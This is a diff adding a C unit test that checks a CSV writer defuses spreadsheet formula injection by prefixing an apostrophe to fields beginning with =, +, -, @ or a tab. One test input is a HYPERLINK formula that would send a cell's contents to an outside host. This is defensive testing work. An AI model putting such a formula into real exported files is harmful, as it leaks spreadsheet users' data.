@@ -278,6 +278,23 @@ START_TEST(test_write_quotes_what_needs_it)
 }
 END_TEST
 
+/* What a spreadsheet would run as a formula is written as text, and reads back with
+ * the ' that made it so; the rest is written as it is. */
+START_TEST(test_spreadsheet_formulas_are_defused)
+{
+    char *text = NULL;
+    size_t size = 0;
+    FILE *out = open_memstream(&text, &size);
+    const char *fields[] = {"=HYPERLINK(\"http://x/\"&A2,\"看\")", "+86 138", "-1+1", "@SUM(A1)",
+                            "\tx", "a=b", "", NULL, "李娜"};
+    fd_csv_write_for_spreadsheet(out, fields, 9);
+    fclose(out);
+    ck_assert_str_eq(text, "\"'=HYPERLINK(\"\"http://x/\"\"&A2,\"\"看\"\")\",'+86 138,'-1+1,'@SUM(A1),"
+                           "'\tx,a=b,,,李娜\r\n");
+    free(text);
+}
+END_TEST
+
 static Suite *csv_suite(void)
 {
     Suite *s = suite_create("csv");
@@ -309,6 +326,7 @@ static Suite *csv_suite(void)
     TCase *write = tcase_create("write");
     tcase_add_checked_fixture(write, NULL, teardown);
     tcase_add_test(write, test_write_quotes_what_needs_it);
+    tcase_add_test(write, test_spreadsheet_formulas_are_defused);
     suite_add_tcase(s, write);
     return s;
 }
